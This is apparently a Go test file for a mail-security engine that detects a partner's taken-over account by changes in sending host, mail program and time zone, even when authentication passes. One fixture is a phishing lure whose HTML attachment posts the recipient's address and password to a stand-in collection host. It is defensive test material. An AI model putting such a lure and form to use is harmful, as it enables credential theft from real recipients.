package engine_test

import (
	"context"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/coldwatch/coldwatch"
	"github.com/coldwatch/coldwatch/engine"
	"github.com/coldwatch/coldwatch/knowledge"
)

var autumn = time.Date(2020, 9, 1, 8, 0, 0, 0, time.UTC)

// fromPartner is authenticated mail of a partner's account, sent by a host, with a program and in a time zone.
func fromPartner(day int, host, mailer, zone, text string) coldwatch.Submission {
	at := autumn.AddDate(0, 0, day)
	raw := fmt.Sprintf("Return-Path: <ana@polar-parts.example>\r\n"+
		"Received: from mail.polar-parts.example (mail.polar-parts.example [%s]) by mx.depot.example with ESMTPS id %d for <ben@depot.example>; %s\r\n"+
		"Authentication-Results: mx.depot.example; spf=pass smtp.mailfrom=polar-parts.example; dkim=pass header.d=polar-parts.example; dmarc=pass header.from=polar-parts.example\r\n"+
		"From: Ana Example <ana@polar-parts.example>\r\nTo: Ben Example <ben@depot.example>\r\nSubject: Order %d\r\nDate: %s\r\n"+
		"Message-ID: <%d.a@polar-parts.example>\r\nX-Mailer: %s\r\nMIME-Version: 1.0\r\n%s",
		host, day, at.Format(time.RFC1123Z), day, at.In(zoneOf(zone)).Format(time.RFC1123Z), day, mailer, text)
	return coldwatch.Submission{Raw: []byte(raw), Organisation: "depot", Source: fmt.Sprintf("mail/%d.eml", day), Received: at}
}

func zoneOf(s string) *time.Location {
	t, err := time.Parse("-0700", s)
	if err != nil {
		panic(err)
	}
	return t.Location()
}

const plainNote = "Content-Type: text/plain\r\n\r\nDear Ben,\r\n\r\nthe door seals left today.\r\n\r\nAna Example\r\nPolar Parts\r\n"

const asksForPassword = "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nDear Ben,\r\n\r\n" +
	"please open the attached request for quotation and sign in with your e-mail to see the items.\r\n\r\nAna Example\r\nPolar Parts\r\n--b\r\n" +
	"Content-Type: text/html; name=\"RFQ.html\"\r\nContent-Disposition: attachment; filename=\"RFQ.html\"\r\n\r\n" +
	"<form action=\"https://collect.hoster.test/a.php\" method=post><input name=u value=\"ben@depot.example\"><input type=password name=p></form>\r\n--b--\r\n"

func partnerWorld(t *testing.T) world {
	t.Helper()
	dir := t.TempDir()
	for name, text := range map[string]string{
		"pack.yaml":         "name: test\nversion: \"1\"\n",
		"roles.csv":         "id,name,stage\nparts,Parts,supply\n",
		"organisations.csv": "id,name,roles,country,domains\ndepot,Depot,parts,DE,depot.example\npolar,Polar Parts,parts,DE,polar-parts.example\n",
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	pack, err := knowledge.Load(dir)
	if err != nil {
		t.Fatal(err)
	}
	return world{pack: pack}
}

func kinds(t *testing.T, e *engine.Engine, sub coldwatch.Submission) (coldwatch.Class, string) {
	t.Helper()
	x, err := e.Explain(t.Context(), sub)
	if err != nil {
		t.Fatal(err)
	}
	row, err := e.Store.Row(t.Context(), sub.ID())
	if err != nil {
		t.Fatal(err)
	}
	if x.Analysis.Verdict.Class != row.Class || x.Analysis.Verdict.Bits != row.Bits {
		t.Errorf("%s: explained as %s (%.2f), stored as %s (%.2f)", sub.Source, x.Analysis.Verdict.Class, x.Analysis.Verdict.Bits, row.Class, row.Bits)
	}
	var out []string
	for _, f := range x.Analysis.Findings {
		if strings.HasPrefix(f.Kind, "history.") {
			out = append(out, f.Kind)
		}
	}
	return row.Class, strings.Join(out, " ")
}

// A partner's true account that is taken over shows by its habits though all authentication passes; mail that comes in any
// order, late or in between, gives the same.
func TestTakenOverAccount(t *testing.T) {
	w := partnerWorld(t)
	var subs []coldwatch.Submission
	for day := 0; day < 60; day += 6 {
		subs = append(subs, fromPartner(day, "198.51.100.7", "Office 5", "+0200", plainNote))
	}
	honest := fromPartner(80, "198.51.100.9", "Office 6", "+0200", plainNote)
	probe := fromPartner(84, "203.0.113.50", "Sender 1", "+0800", plainNote)
	attack := fromPartner(85, "203.0.113.50", "Sender 1", "+0800", asksForPassword)
	subs = append(subs, honest, probe, attack)
	r := rand.New(rand.NewPCG(7, 7))
	for round := range 4 {
		e := newEngine(t, w, filepath.Join(t.TempDir(), "a.db"))
		for i := 0; i < len(subs); i += 5 {
			scan(t, e, t.Context(), &list{subs: subs[i:min(i+5, len(subs))]})
			if round%2 == 1 { // linked in between
				state(t, e)
			}
		}
		state(t, e)
		if class, k := kinds(t, e, honest); class != coldwatch.Unremarkable || k != "" {
			t.Errorf("round %d: honest mail is %s: %s", round, class, k)
		}
		if class, k := kinds(t, e, probe); class.Bad() || k != "history.changed" {
			t.Errorf("round %d: harmless mail from elsewhere is %s: %s", round, class, k)
		}
		if class, k := kinds(t, e, attack); !class.Bad() || k != "history.changed" {
			t.Errorf("round %d: the attack is %s: %s", round, class, k)
		}
		r.Shuffle(len(subs), func(i, j int) { subs[i], subs[j] = subs[j], subs[i] })
	}
	// What is forgotten makes no habits any more.
	e := newEngine(t, w, filepath.Join(t.TempDir(), "a.db"))
	scan(t, e, context.Background(), &list{subs: subs})
	state(t, e)
	if _, err := e.Purge(t.Context(), "", autumn.AddDate(0, 0, 50)); err != nil {
		t.Fatal(err)
	}
	if _, k := kinds(t, e, attack); k != "" {
		t.Errorf("after the purge: %s", k)
	}
}
